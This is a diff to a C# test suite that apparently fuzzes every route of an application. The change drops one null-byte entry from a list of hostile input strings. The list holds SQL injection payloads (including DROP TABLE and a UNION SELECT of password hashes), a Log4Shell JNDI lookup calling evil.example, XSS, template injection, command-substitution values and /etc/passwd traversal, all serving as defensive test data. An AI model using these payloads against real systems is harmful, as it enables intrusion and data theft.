@@ -11,7 +11,7 @@ public sealed partial class EveryRouteTests(BesiegedCity city) : IClassFixture<B
     private static readonly string[] Strings =
     [
         "' OR '1'='1", "'; DROP TABLE account; --", "\" OR \"\"=\"", "1) UNION SELECT name, password_hash FROM account --", "%' OR 1=1 --", "x' AND (SELECT count(*) FROM account) > 0 --", "'||(SELECT pg_sleep(5))||'",
-        "${jndi:ldap://evil.example/x}", "{{7*7}}", "<script>alert(1)</script>", "$(id)", "`id`", "|id", "../../etc/passwd", "%00", "\u0000", "__proto__", "constructor", "toString", "*", "%", "_", "NaN", "Infinity", "-0", "9".PadRight(400, '9'),
+        "${jndi:ldap://evil.example/x}", "{{7*7}}", "<script>alert(1)</script>", "$(id)", "`id`", "|id", "../../etc/passwd", "%00", "__proto__", "constructor", "toString", "*", "%", "_", "NaN", "Infinity", "-0", "9".PadRight(400, '9'),
         "0x10", "1e309", "\ud83d\udca9", "\u202e", "a;b", "true", "null", "[]", "{}", "=1+1",
     ];
 
